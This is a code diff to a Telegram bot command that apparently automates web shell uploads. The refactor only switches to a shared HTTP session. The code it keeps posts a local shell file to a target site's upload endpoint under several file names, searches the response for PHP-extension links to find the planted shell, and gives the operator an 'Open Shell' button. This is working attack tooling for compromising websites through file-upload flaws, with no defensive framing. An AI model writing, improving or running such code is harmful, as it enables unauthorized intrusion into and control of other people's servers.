@@ -1,10 +1,11 @@
 from telegram import Update, InlineKeyboardButton, InlineKeyboardMarkup
 from telegram.ext import ContextTypes, CommandHandler
-import aiohttp
 import os
 import mimetypes
 import re
 
+from services.http_client import get_session
+
 async def autoupload_command(update: Update, context: ContextTypes.DEFAULT_TYPE):
     async def safe_send(msg, **kwargs):
         try:
@@ -34,28 +35,28 @@ async def autoupload_command(update: Update, context: ContextTypes.DEFAULT_TYPE)
     ]
 
     uploaded_name = None
-    async with aiohttp.ClientSession() as session:
-        for filename in possible_filenames:
-            with open(shell_path, "rb") as f:
-                files = {'file': (filename, f, mimetypes.guess_type(filename)[0] or 'application/octet-stream')}
-                try:
-                    async with session.post(upload_url, data=files) as resp:
-                        text = await resp.text()
-                        if resp.status == 200:
-                            # Try to find where it got uploaded
-                            found_links = re.findall(r'(?:href|src)=["\']?([^"\'>]+)', text)
-                            for link in found_links:
-                                if any(ext in link.lower() for ext in ['.php', '.phtml', '.php5', '.php7']):
-                                    if not link.startswith("http"):
-                                        link = base_url + "/" + link.lstrip("/")
-                                    uploaded_name = os.path.basename(link)
-                                    shell_url = link
-                                    break
-                            if uploaded_name:
+    session = get_session()
+    for filename in possible_filenames:
+        with open(shell_path, "rb") as f:
+            files = {'file': (filename, f, mimetypes.guess_type(filename)[0] or 'application/octet-stream')}
+            try:
+                async with session.post(upload_url, data=files) as resp:
+                    text = await resp.text()
+                    if resp.status == 200:
+                        # Try to find where it got uploaded
+                        found_links = re.findall(r'(?:href|src)=["\']?([^"\'>]+)', text)
+                        for link in found_links:
+                            if any(ext in link.lower() for ext in ['.php', '.phtml', '.php5', '.php7']):
+                                if not link.startswith("http"):
+                                    link = base_url + "/" + link.lstrip("/")
+                                uploaded_name = os.path.basename(link)
+                                shell_url = link
                                 break
-                except Exception as e:
-                    print(f"[!] Upload error: {e}")
-                    continue
+                        if uploaded_name:
+                            break
+            except Exception as e:
+                print(f"[!] Upload error: {e}")
+                continue
 
     if uploaded_name:
         keyboard = InlineKeyboardMarkup([[InlineKeyboardButton("🔗 Open Shell", url=shell_url)]])